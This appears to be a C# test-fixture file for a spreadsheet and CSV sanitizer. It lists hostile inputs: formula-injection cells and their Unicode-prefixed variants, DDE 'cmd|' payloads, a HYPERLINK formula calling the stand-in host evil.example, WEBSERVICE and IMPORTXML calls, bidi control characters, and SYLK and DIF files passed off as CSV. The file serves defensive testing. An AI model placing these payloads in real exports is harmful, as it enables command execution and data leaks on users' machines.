using System.Text;
using Sekisho.Sanitizer.Texts;

namespace Sekisho.Sanitizer.Tests.Hostile;

/// <summary>Rows C-01 … C-06: tables and texts that a spreadsheet takes for more. A cell stays as it was, behind an apostrophe: what must be gone is the cell that begins so.</summary>
internal static class HostileText
{
    public static IEnumerable<HostileFile> All()
    {
        foreach (var (what, cell) in new[] { ("equals", "=1+KAMAKIRI()"), ("plus", "+KAMAKIRI()"), ("minus", "-KAMAKIRI()"), ("at", "@KAMAKIRI()"), ("full-width equals", "＝KAMAKIRI()"), ("full-width plus", "＋KAMAKIRI()"), ("full-width minus", "－KAMAKIRI()"), ("full-width at", "＠KAMAKIRI()"), ("a blank before", " =KAMAKIRI()"), ("a tab before", "\t=KAMAKIRI()"), ("an ideographic blank before", "\u3000=KAMAKIRI()"), ("a zero-width blank before", "\u200B=KAMAKIRI()"), ("a no-break blank before", "\u00A0=KAMAKIRI()"), ("a mark of Unicode before", "\uFEFF=KAMAKIRI()") })
        {
            yield return Cell("C-01", what, $"nokoru,{cell}\r\n", $",{cell}") with { Kept = ["nokoru"] };
            yield return Cell("C-01", $"{what}, in quotes", $"nokoru,\"{cell}\"\r\n", $",\"{cell}", $",{cell}");
        }
        yield return Cell("C-01", "behind a line end in a quoted cell", "nokoru,\"\r\n=KAMAKIRI()\"\r\n", ",\"\r\n=KAMAKIRI") with { Told = "C-01", Needles = [",\"\r\n=KAMAKIRI"], Kept = ["nokoru"] };
        yield return Cell("C-02", "DDE", "nokoru,=cmd|'/c KAMAKIRI'!A0\r\n", ",=cmd|");
        yield return Cell("C-02", "DDE behind a sum", "nokoru,\"-2+3+cmd|' /C KAMAKIRI'!D2\"\r\n", ",-2+3+cmd|", ",\"-2+3+cmd|");
        yield return Cell("C-03", "calls outside", "nokoru,\"=HYPERLINK(\"\"http://evil.example/?KAMAKIRI\"\",\"\"x\"\")\"\r\n=WEBSERVICE(KAMAKIRI),=IMPORTXML(KAMAKIRI)\r\n", ",=HYPERLINK", ",\"=HYPERLINK", "\n=WEBSERVICE", ",=IMPORTXML");
        yield return new HostileFile("C-04", "control characters, a zero byte's kin and directions", "a.txt", Encoding.UTF8.GetBytes("nokoru\u202EKAMAKIRI\u2066\u200B\u001B[31m\r\n"), "\u202E", "\u2066", "\u200B") { Kept = ["nokoru"] };
        yield return new HostileFile("C-04", "zero bytes", "a.csv", "nokoru,\0=KAMAKIRI\r\n"u8.ToArray(), HostileFile.Mark) { Refused = "SAN-KIND-004" };
        yield return new HostileFile("C-04", "bytes of no code", "a.txt", [.. "KAMAKIRI\r\n"u8, 0xFF, 0xC0, 0x80, 0x0A], HostileFile.Mark) { Refused = "SAN-KIND-004" };
        yield return Cell("C-05", "a line that changes the divider", "sep=;\r\nnokoru;=KAMAKIRI()\r\n", "sep=;");
        yield return Cell("C-05", "a divider of another program", "nokoru;=KAMAKIRI();x\r\n1;=KAMAKIRI();2\r\n", ";=KAMAKIRI") with { Told = "C-01" };
        yield return Cell("C-05", "a divider by tabs", "nokoru\t=KAMAKIRI()\r\n", "\t=KAMAKIRI") with { Told = "C-01" };
        yield return Cell("C-05", "a quote that isn't closed", "nokoru,\"a\r\n=KAMAKIRI()\r\n", "\n=KAMAKIRI") with { Refused = "SAN-CSV-001" };
        yield return Cell("C-05", "a quote in the middle of a cell", "nokoru,a\"b,\"=KAMAKIRI()\r\n", ",\"=KAMAKIRI") with { Refused = "SAN-CSV-001" };
        yield return new HostileFile("C-06", "SYLK called csv", "a.csv", "ID;PWXL;N;E\r\nC;X1;Y1;K0;EEXEC(\"KAMAKIRI\")\r\nE\r\n"u8.ToArray(), HostileFile.Mark) { Refused = "SAN-KIND-003" };
        yield return new HostileFile("C-06", "SYLK behind a mark of UTF-8", "a.txt", [0xEF, 0xBB, 0xBF, .. "ID;PKAMAKIRI\r\nC;X1;Y1;K0;EEXEC(\"KAMAKIRI\")\r\n"u8], HostileFile.Mark) { Refused = "SAN-KIND-003" };
        yield return new HostileFile("C-06", "DIF called csv", "a.csv", "TABLE\r\n0,1\r\n\"KAMAKIRI\"\r\nVECTORS\r\n0,1\r\n\"\"\r\nDATA\r\n0,0\r\n\"\"\r\n-1,0\r\nBOT\r\n1,0\r\n\"=KAMAKIRI()\"\r\n"u8.ToArray(), "=KAMAKIRI()") { Refused = "SAN-CSV-003" };
        // The same in CP932, where a full-width sign is two bytes.
        yield return new HostileFile("C-01", "a full-width sign in CP932", "a.csv", Cp932("nokoru,＝KAMAKIRI()\r\n"), Encoding.Latin1.GetString(Cp932(",＝KAMAKIRI")));
    }

    private static byte[] Cp932(string text) => CodePagesEncodingProvider.Instance.GetEncoding(932)!.GetBytes(text);

    // The needle is the cell with what stands before it: found as it is, and gone when a character stands between.
    private static HostileFile Cell(string threat, string what, string csv, params string[] needles) => new(threat, what, "a.csv", Encoding.UTF8.GetBytes(csv), [.. needles.Where(n => csv.Contains(n, StringComparison.Ordinal))]);
}
